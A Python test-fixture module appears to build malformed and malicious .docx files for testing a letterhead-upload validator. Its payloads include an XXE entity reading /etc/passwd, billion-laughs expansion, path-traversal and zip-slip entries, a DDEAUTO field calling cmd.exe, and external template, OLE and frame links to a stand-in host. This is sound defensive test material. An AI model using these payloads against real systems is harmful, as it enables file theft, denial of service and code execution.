"""Word files that somebody made to do harm as a letterhead: broken, swollen, or loading what Word would fetch."""

import io
import re
import struct
import zipfile
from collections.abc import Mapping

import docx

_MAIN, _RELATIONS, _STYLES = "word/document.xml", "word/_rels/document.xml.rels", "word/styles.xml"
_SETTINGS, _TYPES, _HEADER = "word/settings.xml", "[Content_Types].xml", "word/header1.xml"
_KIND = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _whole() -> bytes:
    document = docx.Document()
    document.add_paragraph("Vertraulich: Qzold")
    document.sections[0].header.paragraphs[0].text = "Rat"
    data = io.BytesIO()
    document.save(data)
    return data.getvalue()


WHOLE = _whole()


def _changed(*changes: tuple[str, bytes, bytes], **parts: bytes) -> bytes:
    """Return the whole file with (part, what stands there, what is to stand there instead), and *parts* added to it."""
    data = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(WHOLE)) as old,
        zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new,
    ):
        for name in old.namelist():
            content = old.read(name)
            for part, before, after in changes:
                if part == name:
                    assert before in content, (part, before)
                    content = content.replace(before, after, 1)
            if content:
                new.writestr(name, content)
        for name, content in parts.items():
            new.writestr(name, content)
    return data.getvalue()


def _part(name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(WHOLE)) as old:
        return old.read(name)


def _without(name: str) -> bytes:
    return _changed((name, _part(name), b""))


def _related(kind: bytes, target: bytes, *, external: bool = True, **parts: bytes) -> bytes:
    mode = b' TargetMode="External"' if external else b""
    link = b'<Relationship Id="x" Type="%s%s" Target="%s"%s/></Relationships>' % (_KIND, kind, target, mode)
    anything = b'<Default Extension="bin" ContentType="application/octet-stream"/></Types>'
    return _changed((_RELATIONS, b"</Relationships>", link), (_TYPES, b"</Types>", anything), **parts)


def _header(inside: bytes, link: bytes = b"") -> bytes:
    links = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
    return _changed(
        (_HEADER, b"</w:p>", inside + b"</w:p>"),
        **{"word/_rels/header1.xml.rels": links % link},
    )


def _field(code: bytes) -> bytes:
    return b"".join(b"<w:r><w:instrText>%c</w:instrText></w:r>" % sign for sign in code)


def _flags(local: int, central: int, value: int) -> bytes:
    """Return the whole file with *value* in a field of all headers of the archive."""
    data = bytearray(WHOLE)
    for sign, offset in ((b"PK\3\4", local), (b"PK\1\2", central)):
        for found in re.finditer(re.escape(sign), WHOLE):
            struct.pack_into("<H", data, found.start() + offset, value)
    return bytes(data)


_LAUGHS = b"".join(b'<!ENTITY %c "%s">' % (sign, b"&%c;" % (sign - 1) * 10) for sign in range(98, 110))
_SECTION = re.search(rb"<w:sectPr.*</w:sectPr>", _part(_MAIN), re.DOTALL)[0]  # type: ignore[index]

REFUSED: Mapping[str, bytes] = {
    "nothing": b"",
    "text": b"a letterhead",
    "half of it": WHOLE[: len(WHOLE) // 2],
    "without its end": WHOLE[:-30],
    "garbled": bytes(sign ^ 255 if place % 97 == 0 and place > 200 else sign for place, sign in enumerate(WHOLE)),
    "encrypted": _flags(6, 8, 1),
    "packed in an unknown way": _flags(8, 10, 99),
    "another program's": _changed((_TYPES, b"wordprocessingml.document.main", b"spreadsheetml.sheet.main")),
    "with macros, as it says": _changed(
        (_TYPES, b"openxmlformats-officedocument.wordprocessingml.document", b"ms-word.document.macroEnabled")
    ),
    "without types": _without(_TYPES),
    "without relations": _without("_rels/.rels"),
    "without a document": _without(_MAIN),
    "without a section": _changed((_MAIN, _SECTION, b"")),
    "without a body": _changed((_MAIN, b"<w:body>", b"<w:x>"), (_MAIN, b"</w:body>", b"</w:x>")),
    "no XML": _changed((_MAIN, b"<w:body>", b"<w:body><")),
    "nested without end": _changed((_SETTINGS, b"</w:settings>", b"<w:a>" * 100_000)),
    "an entity": _changed((_STYLES, b"<w:styles", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:styles')),
    "laughs": _changed((_SETTINGS, b"<w:settings", b'<!DOCTYPE x [<!ENTITY a "a">' + _LAUGHS + b"]><w:settings")),
    "a style without a name": _changed((_STYLES, b"</w:styles>", b'<w:style w:type="paragraph"/></w:styles>')),
    "a page of no width": _changed((_MAIN, b'<w:pgSz w:w="', b'<w:pgSz w:w="x')),
    "a page without end": _changed((_MAIN, b'<w:pgSz w:w="', b'<w:pgSz w:w="999999999')),
    "a page that is too narrow": _changed((_MAIN, b'<w:pgSz w:w="12240"', b'<w:pgSz w:w="1"')),
    "a part outside": _related(b"header", b"../../../../etc/passwd", external=False),
    "64 MiB of blanks": _changed((_STYLES, b"</w:styles>", b" " * (64 << 20) + b"</w:styles>")),
    "a picture from elsewhere": _header(
        b"", b'<Relationship Id="p" Type="%simage" Target="http://x.example/p" TargetMode="External"/>' % _KIND
    ),
    "a program inside": _header(
        b"", b'<Relationship Id="p" Type="%soleObject" Target="file:///c:/x" TargetMode="External"/>' % _KIND
    ),
    "a field that runs a program": _header(_field(b" DDEAUTO c:\\cmd.exe ")),
    "a field that reads a file": _header(_field(b" INCLUDETEXT c:\\x.txt ")),
    "a simple field": _header(b'<w:fldSimple w:instr="INCLUDEPICTURE http://x.example/p"/>'),
}
"""What is refused, by what is wrong with it."""

_TEMPLATE = _KIND + b"attachedTemplate"
TAKEN: Mapping[str, bytes] = {
    "whole": WHOLE,
    "a template from elsewhere": _changed(
        (_SETTINGS, b"</w:settings>", b'<w:attachedTemplate xmlns:r="%s" r:id="t"/></w:settings>' % _KIND[:-1]),
        **{
            "word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'relationships"><Relationship Id="t" Type="%s" Target="http://x.example/t.dotm" TargetMode="External"/>'
            b"</Relationships>" % _TEMPLATE
        },
    ),
    "macros": _related(b"vbaProject", b"vba.bin", external=False, **{"word/vba.bin": b"Qzold"}),
    "comments": _related(b"comments", b"old.bin", external=False, **{"word/old.bin": b"Qzold"}),
    "a program from elsewhere in the text": _related(b"oleObject", b"file:///c:/x"),
    "a frame": _related(b"frame", b"http://x.example"),
    "a page that is loaded": _related(b"aFChunk", b"http://x.example"),
    "paths that lead out": _changed(**{"../../owned": b"Qzold", "/owned": b"Qzold"}),
    "thousands of parts": _changed(**{f"word/{number}.xml": b"<a/>" for number in range(3000)}),
}
"""What is taken, and must not come along."""
